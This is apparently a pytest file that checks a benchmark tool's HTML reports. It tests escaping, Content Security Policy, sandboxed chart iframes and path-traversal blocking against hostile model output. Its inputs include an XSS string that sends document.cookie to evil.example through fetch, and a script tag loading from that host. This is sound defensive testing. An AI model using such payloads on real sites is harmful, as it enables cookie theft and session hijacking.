"""The HTML reports as files: escaped, locked down by a CSP, holding the report's numbers."""

from __future__ import annotations

import base64
import html
import re
import subprocess
import sys
import urllib.parse
from pathlib import Path
from typing import Any

import msgspec
import pytest

from bench_cli._library_cache import CachedLibrary
from bench_cli.html import (
    html_report_path,
    installed_prompts,
    render_compare_html,
    render_run_html,
    write_run_html,
)
from bench_cli.html._page import script_json
from bench_cli.html._run_report import MESSAGE_LIMIT
from bench_core import Registry, Run, RunHeader, Suite
from bench_scoring import CHART_LIBRARIES

from .html_fixtures import (
    CHARTS_DIR,
    HOSTILE,
    HOSTILE_DOMAIN,
    HOSTILE_MODEL,
    RUN_STEM,
    comparison,
    csp_hash,
    embedded_data,
    hostile_report,
    hostile_run,
    inline_scripts,
    item,
    png,
    prompts,
)


@pytest.fixture
def run_page(tmp_path: Path) -> tuple[str, dict[str, Any], Run]:
    run, path = hostile_run(tmp_path)
    report = hostile_report(run)
    return render_run_html(report, run, path, prompts), report, run


def markup(page: str) -> str:
    """The page without the contents of its script elements."""
    return re.sub(r"(<script[^>]*>).*?(</script>)", r"\1\2", page, flags=re.S)


# ---- hostile content ----------------------------------------------------------------------


def test_script_json_escapes_what_could_end_a_script_and_reads_back_the_same() -> None:
    value = {"answer": HOSTILE, "</script>": "a > b && c"}
    encoded = script_json(value)
    for unsafe in ("<", ">", "&", "\u2028", "\u2029"):
        assert unsafe not in encoded
    assert msgspec.json.decode(encoded) == value


def test_hostile_answers_never_leave_their_json(run_page: tuple[str, dict[str, Any], Run]) -> None:
    page, _, run = run_page
    # Three script elements open and close: the data, plotly.js and the page's script.
    assert page.count("</script>") == 3
    assert page.count("<script") == 3
    assert "\u2028" not in page
    assert "\u2029" not in page
    assert "onerror" not in markup(page)
    assert "window.__pwned" not in markup(page)
    data = embedded_data(page)
    answers = {i["key"]: i for i in data["items"]}
    assert answers["C_M01_Q1"]["answer"] == HOSTILE
    assert answers["E01_Q1"]["trajectory"][2]["content"] == f"Done. {HOSTILE}"
    assert answers["E01_Q1"]["trajectory"][0]["calls"] == [
        {"name": "get_trades", "arguments": '{"note": "</script>"}'}
    ]
    assert answers["E01_Q2"]["reasons"] == [f"missing required argument {HOSTILE}"]
    assert answers["E01_Q1"]["judges"][0]["reason"] == f"Fine. {HOSTILE}"
    assert len(data["items"]) == len(run.latest())


def test_names_from_the_run_file_are_escaped_in_the_markup(
    run_page: tuple[str, dict[str, Any], Run],
) -> None:
    page, _, _ = run_page
    body = markup(page)
    assert "<b>bold</b>" not in body
    assert "acme/&lt;b&gt;bold&lt;/b&gt;-model" in body
    assert "judge/&lt;script&gt;" in body  # the judges' table
    # Plotly reads <b>, <br> and <a> in labels: labels reach it with entities.
    domains = embedded_data(page)["figures"]["domain"]["data"][0]["x"]
    assert "ops&lt;i&gt;&amp;&lt;/i&gt;" in domains
    assert HOSTILE_DOMAIN not in domains


def test_the_page_loads_nothing_and_runs_only_its_own_scripts(
    run_page: tuple[str, dict[str, Any], Run],
) -> None:
    page, _, _ = run_page
    head = page[: page.index("</head>")]
    found = re.search(r'<meta http-equiv="Content-Security-Policy" content="([^"]+)">', head)
    assert found is not None
    assert head.index("Content-Security-Policy") < head.find("<script") or "<script" not in head
    text = html.unescape(found.group(1))
    policy = {part.split()[0]: part.split()[1:] for part in text.split("; ") if part}
    assert policy["default-src"] == ["'none'"]
    assert policy["img-src"] == ["data:"]
    assert policy["connect-src"] == ["'none'"]
    assert policy["base-uri"] == ["'none'"]
    scripts = inline_scripts(page)
    assert len(scripts) == 2  # plotly.js, then the page's own
    assert sorted(policy["script-src"]) == sorted(csp_hash(script) for script in scripts)
    assert "unsafe-inline" not in " ".join(policy["script-src"])
    assert "unsafe-eval" not in text
    assert "plotly.js v" in scripts[0][:200]
    # Nothing in the markup points at the network.
    assert not re.search(r"(src|href)=\"(https?:)?//", markup(page))


# ---- the numbers ----------------------------------------------------------------------------


def test_figures_hold_the_reports_numbers(run_page: tuple[str, dict[str, Any], Run]) -> None:
    page, report, _ = run_page
    figures = embedded_data(page)["figures"]
    summary = report["summary"]

    def check(figure: dict[str, Any], scores: dict[str, Any], names: list[str]) -> None:
        (trace,) = figure["data"]
        assert trace["y"] == [scores[n]["value"] for n in names]
        assert trace["error_y"]["array"] == pytest.approx(
            [scores[n]["high"] - scores[n]["value"] for n in names]
        )
        assert trace["error_y"]["arrayminus"] == pytest.approx(
            [scores[n]["value"] - scores[n]["low"] for n in names]
        )

    difficulties = ["easy", "medium", "hard", "expert"]
    assert figures["difficulty"]["data"][0]["x"] == difficulties
    check(figures["difficulty"], summary["by_difficulty"], difficulties)
    check(figures["suite"], summary["by_suite"], ["tools", "charts"])
    check(figures["domain"], summary["by_domain"], list(summary["by_domain"]))
    criteria = figures["criterion"]["data"][0]
    expected = [
        (suite, name, score["value"])
        for suite, scores in summary["by_criterion"].items()
        for name, score in scores.items()
    ]
    assert list(zip(criteria["x"][0], criteria["y"], strict=True)) == [
        (s, v) for s, _, v in expected
    ]
    assert criteria["x"][1] == [name.replace("_", " ") for _, name, _ in expected]
    curve = figures["quality"]["data"][0]
    assert curve["x"] == [1, 2, 3]
    assert curve["y"] == [summary["quality_curve"]["points"][str(q)] for q in (1, 2, 3)]
    cost = figures["cost"]["data"][0]
    assert cost["x"] == [report["usage"]["cost"]]
    assert cost["y"] == [summary["overall"]["value"]]
    latency = figures["latency"]["data"][0]
    assert latency["y"] == [report["latency_s"][p] for p in ("p50", "p90", "p95", "p99", "max")]
    errors = figures["errors"]["data"][0]
    assert errors["x"] == [["infra error", "model error"], ["task_timeout", "no_chart"]]
    assert errors["y"] == [1, 1]


def test_headline_is_the_overall_score_and_its_interval(
    run_page: tuple[str, dict[str, Any], Run],
) -> None:
    page, report, _ = run_page
    overall = report["summary"]["overall"]
    assert f'<div class="big" data-value="{overall["value"]}">{overall["value"]:.1f}%</div>' in page
    assert f"95% interval {overall['low']:.1f}–{overall['high']:.1f}" in page
    assert "1 infra errors (left out of every score)" in page


def test_cost_axis_falls_back_to_tokens_when_no_cost_is_reported(tmp_path: Path) -> None:
    run, path = hostile_run(tmp_path, cost=False)
    report = hostile_report(run)
    assert report["usage"]["cost"] is None
    figure = embedded_data(render_run_html(report, run, path, None))["figures"]["cost"]
    assert figure["data"][0]["x"] == [report["usage"]["prompt_tokens"]]
    assert figure["layout"]["xaxis"]["title"]["text"] == "tokens (no cost reported)"


def test_items_carry_prompts_statuses_and_scores(
    run_page: tuple[str, dict[str, Any], Run],
) -> None:
    page, _, run = run_page
    items = {i["key"]: i for i in embedded_data(page)["items"]}
    for result in run.latest():
        key = f"{result.task_id}_Q{result.quality}"
        assert (items[key]["score"], items[key]["status"]) == (result.score, result.status)
        assert items[key]["prompt"] == prompts(result.task_id, result.quality)
    assert items["ZZ_E01_Q1"]["prompt"] is None
    assert items["M02_Q1"]["error"] == (
        "task_timeout: the item took longer than the task timeout of 300 s"
    )
    # Tables read in task order: tools before charts, easy before expert.
    order = [i["task_id"] for i in embedded_data(page)["items"]]
    assert order.index("E01") < order.index("X01") < order.index("C_E01")


def test_long_messages_are_clipped_with_a_note(tmp_path: Path) -> None:
    run, path = hostile_run(tmp_path)
    long = "x" * (MESSAGE_LIMIT + 500)
    results = [
        item("E01", 1, 100.0, trajectory=[{"role": "tool", "tool_call_id": "c", "content": long}])
    ]
    run = Run(path=str(path), header=run.header, results=results, judges=[])
    data = embedded_data(render_run_html(hostile_report(run), run, path, None))
    content = data["items"][0]["trajectory"][0]["content"]
    assert content.startswith("x" * MESSAGE_LIMIT)
    assert content.endswith("… [500 more characters not shown]")


# ---- screenshots and chart links ------------------------------------------------------------


def test_screenshots_are_embedded_once_each_as_data_uris(
    run_page: tuple[str, dict[str, Any], Run],
) -> None:
    page, _, _ = run_page
    data = embedded_data(page)
    items = {i["key"]: i for i in data["items"]}
    same = {items[f"C_E01_Q{q}"]["image"] for q in (1, 2, 3)}
    assert len(same) == 1
    assert None not in same
    assert len(data["images"]) == 2
    assert data["images"][same.pop()] == "data:image/png;base64," + base64.b64encode(png()).decode()
    assert items["C_H01_Q1"]["image"] is not None
    assert items["C_H01_Q2"]["image"] is None  # not a PNG
    assert items["C_H01_Q3"]["image"] is None  # none beside it
    assert items["C_E01_Q1"]["chart_href"] == f"{RUN_STEM}.report_sandboxed/C_E01_Q1.html"


def test_chart_links_are_relative_to_where_the_page_is_written(tmp_path: Path) -> None:
    run, path = hostile_run(tmp_path / "results")
    elsewhere = tmp_path / "reports" / "my report.html"
    elsewhere.parent.mkdir()
    write_run_html(hostile_report(run), run, path, elsewhere, [])
    page = elsewhere.read_text(encoding="utf-8")
    items = {i["key"]: i for i in embedded_data(page)["items"]}
    assert items["C_E01_Q1"]["chart_href"] == "my%20report_sandboxed/C_E01_Q1.html"
    assert (elsewhere.parent / "my report_sandboxed" / "C_E01_Q1.html").exists()


def test_the_chart_link_opens_a_sandboxed_wrapper_not_the_models_file(tmp_path: Path) -> None:
    run, path = hostile_run(tmp_path / "results")
    html_path = html_report_path(path)
    chart = tmp_path / "results" / CHARTS_DIR / "C_E01_Q1.html"
    hostile_chart = (
        '<svg><text>"quoted"</text></svg></iframe><script>fetch("https://evil.example/?"'
        "+document.cookie)</script>"
    )
    chart.write_text(hostile_chart)
    write_run_html(hostile_report(run), run, path, html_path, [])
    items = {i["key"]: i for i in embedded_data(html_path.read_text(encoding="utf-8"))["items"]}
    href = items["C_E01_Q1"]["chart_href"]
    assert CHARTS_DIR not in href  # never the model's file itself
    wrapper = html_path.parent / urllib.parse.unquote(href)
    page = wrapper.read_text(encoding="utf-8")
    # One frame, sandboxed to scripts only: no same origin, no pop-ups, forms or top navigation.
    (frame,) = re.findall(r"<iframe\b[^>]*>", page)
    assert frame.startswith('<iframe sandbox="allow-scripts" ')
    assert "allow-same-origin" not in page
    csp = re.search(r'http-equiv="Content-Security-Policy" content="([^"]+)"', page)
    assert csp is not None
    directives = {
        part.split()[0]: part.split()[1:] for part in csp.group(1).split(";") if part.strip()
    }
    assert directives["default-src"] == ["'none'"]
    # Inline scripts run; file: only serves the shared libraries.js to the wrapper itself, as
    # an opaque frame may load no file.
    assert directives["script-src"] == ["'unsafe-inline'", "file:"]
    assert "connect-src" not in directives  # so 'none', as default-src
    assert "frame-src" not in directives
    assert not any("http" in source for sources in directives.values() for source in sources)
    # The model's document is only ever an attribute's escaped text: it cannot close the frame.
    srcdoc = re.search(r'srcdoc="([^"]*)"', page)
    assert srcdoc is not None
    assert html.unescape(srcdoc.group(1)) == hostile_chart
    assert "<script" not in page.replace(srcdoc.group(0), "")
    assert "</iframe>" not in srcdoc.group(1)


def test_a_library_a_chart_loads_from_a_cdn_comes_from_the_local_cache(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    (chartjs,) = [library for library in CHART_LIBRARIES if library.package == "chart.js"]
    cache = tmp_path / "cache"
    source = cache / "chart.js" / chartjs.file
    source.parent.mkdir(parents=True)
    source.write_text("window.Chart = function () { return '</script><b>'; };")
    entry = CachedLibrary(
        name=chartjs.name,
        package=chartjs.package,
        version=chartjs.version,
        file=chartjs.file,
        path=f"chart.js/{chartjs.file}",
        integrity="",
        urls=chartjs.urls,
    )
    (cache / "manifest.json").write_bytes(msgspec.json.encode([entry]))
    monkeypatch.setenv("BENCH_CACHE_DIR", str(cache))
    run, path = hostile_run(tmp_path / "results")
    chart = tmp_path / "results" / CHARTS_DIR / "C_E01_Q1.html"
    chart.write_text(
        f'<canvas></canvas><script src="{chartjs.urls[0]}"></script>'
        '<script src="https://evil.example/x.js"></script><script>new Chart()</script>'
    )
    html_path = html_report_path(path)
    write_run_html(hostile_report(run), run, path, html_path, [])
    folder = html_path.parent / f"{html_path.stem}_sandboxed"
    page = (folder / "C_E01_Q1.html").read_text(encoding="utf-8")
    data = re.search(r'<script type="application/json" id="chart">(.*?)</script>', page)
    assert data is not None
    assert "<" not in data.group(1)
    given = msgspec.json.decode(data.group(1).encode())
    assert f'<script data-bench-library="chart.js@{chartjs.version}"></script>' in given
    assert chartjs.urls[0] not in given
    assert '<script src="https://evil.example/x.js"></script>' in given  # left: CSP blocks it
    (frame,) = re.findall(r"<iframe\b[^>]*>", page)
    assert frame.startswith('<iframe sandbox="allow-scripts" ')
    assert "srcdoc" not in frame  # the wrapper's script gives the frame its document
    libraries = (folder / "libraries.js").read_text(encoding="utf-8")
    assert libraries.startswith("window.BENCH_LIBRARIES = {")
    assert "</script" not in libraries.lower()
    other = (folder / "C_E01_Q2.html").read_text(encoding="utf-8")
    assert "libraries.js" not in other  # a chart without a library needs none


def test_a_chart_outside_the_run_folder_gets_no_wrapper(tmp_path: Path) -> None:
    run, path = hostile_run(tmp_path / "results")
    (tmp_path / "secret.html").write_text("secret")
    results = [item("C_E01", 1, 100.0, chart_file="../secret.html")]
    run = Run(path=str(path), header=run.header, results=results, judges=[])
    html_path = html_report_path(path)
    write_run_html(hostile_report(run), run, path, html_path, [])
    assert not (tmp_path / "results" / f"{RUN_STEM}.report_sandboxed").exists()


def test_a_chart_file_outside_the_run_folder_is_neither_linked_nor_embedded(
    tmp_path: Path,
) -> None:
    run, path = hostile_run(tmp_path / "results")
    (tmp_path / "secret.html").write_text("secret")
    (tmp_path / "secret.png").write_bytes(png())
    results = [item("C_E01", 1, 100.0, chart_file="../secret.html")]
    run = Run(path=str(path), header=run.header, results=results, judges=[])
    data = embedded_data(render_run_html(hostile_report(run), run, path, None))
    assert data["items"][0]["chart_href"] is None
    assert data["items"][0]["image"] is None
    assert data["images"] == {}


def test_the_default_html_path_is_beside_the_run() -> None:
    assert html_report_path(Path("results/incremental_x_1.jsonl")) == Path(
        "results/incremental_x_1.report.html"
    )


# ---- prompts from the installed domains -------------------------------------------------------


def test_prompts_come_from_the_installed_domain_as_the_model_saw_them(tmp_path: Path) -> None:
    domains = Registry().load_all()
    trading = next(d for d in domains if d.id == "trading")
    tasks = {t.id: t for t in trading.tasks()}
    results = [item("E01", 3, 100.0), item("C_E01", 2, 100.0), item("ZZ_E01", 1, 50.0)]
    header = RunHeader(
        run_id="r",
        created_at="2026-11-28T00:00:00Z",
        model="m",
        endpoint="offline",
        params={},
        selection={},
        task_set="0000000000000000",
        items=3,
    )
    run = Run(path=str(tmp_path / "r.jsonl"), header=header, results=results, judges=[])
    lookup, note = installed_prompts(run, domains)
    assert lookup("E01", 3) == tasks["E01"].prompt(3)
    chart_prompt = lookup("C_E01", 2)
    assert chart_prompt is not None
    assert chart_prompt.startswith(tasks["C_E01"].prompt(2))
    assert "Data (" in chart_prompt  # the data follows a chart prompt, as sent
    assert lookup("ZZ_E01", 1) is None
    assert lookup("E01", 11) is None
    assert note == "Some of the run's tasks are not installed: their prompts are not available."


def test_prompts_note_says_when_the_installed_tasks_changed(tmp_path: Path) -> None:
    domains = Registry().load_all()
    results = [item("E01", 1, 100.0)]

    def run_with(task_set: str) -> Run:
        header = RunHeader(
            run_id="r",
            created_at="t",
            model="m",
            endpoint="offline",
            params={},
            selection={},
            task_set=task_set,
            items=1,
        )
        return Run(path=str(tmp_path / "r.jsonl"), header=header, results=results, judges=[])

    from bench_core import task_set_fingerprint

    trading = next(d for d in domains if d.id == "trading")
    same = task_set_fingerprint([t for t in trading.tasks() if t.id == "E01"])
    assert installed_prompts(run_with(same), domains)[1] is None
    _, note = installed_prompts(run_with("0000000000000000"), domains)
    assert note is not None
    assert "differ" in note


# ---- the compare report -----------------------------------------------------------------------


def test_compare_draws_one_series_per_model_with_their_numbers() -> None:
    compared = comparison()
    labels = [run["label"] for run in compared["runs"]]
    data = embedded_data(render_compare_html(compared))
    assert data["labels"] == labels
    for name, key in (("difficulty", "by_difficulty"), ("suite", "by_suite")):
        traces = data["figures"][name]["data"]
        assert [t["name"] for t in traces] == ["Model A", "&lt;b&gt;Model B&lt;/b&gt;"]
        for trace, label in zip(traces, labels, strict=True):
            scores = compared["summaries"][label][key]
            assert trace["y"] == [scores[x]["value"] for x in trace["x"]]
    cost = data["figures"]["cost"]["data"]
    assert [t["x"][0] for t in cost] == [compared["usage"][label]["cost"] for label in labels]
    latency = data["figures"]["latency"]["data"]
    assert [t["y"][0] for t in latency] == [0.5, 2.0]
    differences = data["figures"]["differences"]["data"][0]
    assert differences["x"] == [42.5, 5.0]  # the pair without a difference is not drawn
    assert differences["error_x"]["array"] == [12.5, 7.0]
    assert differences["error_x"]["arrayminus"] == [12.25, 7.5]


def test_compare_table_says_tied_where_the_interval_spans_zero() -> None:
    page = render_compare_html(comparison())
    rows = re.findall(r"<tr>(.*?)</tr>", page[page.index('id="differences"') :], re.S)
    cells = [re.findall(r"<td[^>]*>(.*?)</td>", row) for row in rows]
    cells = [c for c in cells if c]
    assert cells[0] == ["overall", "Model A", "&lt;b&gt;Model B&lt;/b&gt;", "+42.5",
                        "+30.2 to +55.0", "Model A better"]  # fmt: skip
    assert cells[1][-1] == "tied"
    assert cells[1][4] == "-2.5 to +12.0"
    assert cells[2][3:] == ["—", "—", "—"]


def test_compare_escapes_labels_notes_and_differences() -> None:
    page = render_compare_html(comparison())
    body = markup(page)
    assert "<b>Model B</b>" not in body
    assert "<b>0.7" not in body
    assert "&lt;b&gt;Model B&lt;/b&gt;" in body
    assert "not in every run &lt;script&gt;" in body
    assert "(0.0 vs &lt;b&gt;0.7&lt;/b&gt;)" in body
    assert page.count("</script>") == 3


def test_compare_renders_what_build_comparison_returns() -> None:
    from bench_cli._compare import build_comparison

    runs = [
        Run(path=f"{m}.jsonl", header=hostile_run_header(m), results=results, judges=[])
        for m, results in (
            ("a", [item(t, q, 100.0) for t in ("E01", "C_H01") for q in (1, 2)]),
            ("b", [item(t, q, 50.0) for t in ("E01", "C_H01") for q in (1, 2)]),
        )
    ]
    compared = build_comparison(runs, ["a", "b"], resamples=200)
    data = embedded_data(render_compare_html(compared))
    overall = [t["y"] for t in data["figures"]["suite"]["data"]]
    assert overall == [[100.0, 100.0], [50.0, 50.0]]


def hostile_run_header(model: str) -> RunHeader:
    from .html_fixtures import header

    return msgspec.structs.replace(header(model), run_id=f"incremental_{model}")


def test_suites_in_the_criteria_table_match_the_product() -> None:
    compared = comparison()
    figure = embedded_data(render_compare_html(compared))["figures"]["criterion"]
    suites = figure["data"][0]["x"][0]
    assert suites == [Suite.TOOLS.value] * 5 + [Suite.CHARTS.value] * 6


def test_a_model_name_reads_the_same_after_escaping() -> None:
    assert HOSTILE_MODEL in msgspec.json.decode(script_json({"m": HOSTILE_MODEL}))["m"]


def test_writing_a_report_never_imports_plotly(tmp_path: Path) -> None:
    code = (
        "import sys\n"
        "from bench_cli.html import render_compare_html\n"
        "sys.path.insert(0, sys.argv[1])\n"
        "from html_fixtures import comparison\n"
        "page = render_compare_html(comparison())\n"
        "print('plotly.js v' in page, sorted(m for m in sys.modules if m.startswith('plotly')))\n"
    )
    done = subprocess.run(
        [sys.executable, "-c", code, str(Path(__file__).parent)],
        capture_output=True,
        text=True,
        check=True,
    )
    assert done.stdout.strip() == "True []"
